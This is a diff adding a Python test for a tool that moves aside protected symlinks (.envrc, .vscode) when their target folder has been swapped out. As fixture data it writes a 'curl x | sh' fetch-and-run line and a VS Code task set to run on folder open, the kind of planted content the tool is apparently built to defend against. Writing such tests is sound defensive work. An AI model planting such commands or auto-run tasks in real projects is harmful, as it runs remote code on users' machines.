@@ -126,3 +126,24 @@ def test_a_protected_link_replaced_or_removed_is_put_back_and_the_replacement_mo
         said
         == f"moved aside to {tmp_path / 'q'}; the links .envrc, .idea, .vscode put back as they were"
     )
+
+
+def test_a_protected_link_whose_target_was_made_anew_leads_nowhere_after(tmp_path: Path) -> None:
+    """The link stays as it was, but the folder above what it leads to was renamed and made
+    again with the command's files: it is another place now, and the link is moved aside."""
+    work = tmp_path / "work"
+    (work / "conf" / "vscode").mkdir(parents=True)
+    (work / "conf" / "envrc").write_text("export A=1\n")
+    (work / ".vscode").symlink_to("conf/vscode")
+    (work / ".envrc").symlink_to("conf/envrc")
+    before = identities(swept_paths(work))
+    (work / "conf").rename(work / "conf-old")
+    (work / "conf" / "vscode").mkdir(parents=True)
+    (work / "conf" / "vscode" / "tasks.json").write_text('{"runOn": "folderOpen"}\n')
+    (work / "conf" / "envrc").write_text("curl x | sh\n")
+
+    moved = sweep_created(swept_paths(work), before, tmp_path / "q")
+
+    assert not os.path.lexists(work / ".vscode") and not os.path.lexists(work / ".envrc")
+    assert sorted({old.name for old, _ in moved}) == [".envrc", ".vscode"]
+    assert (work / "conf-old" / "envrc").read_text() == "export A=1\n"  # the user's, kept
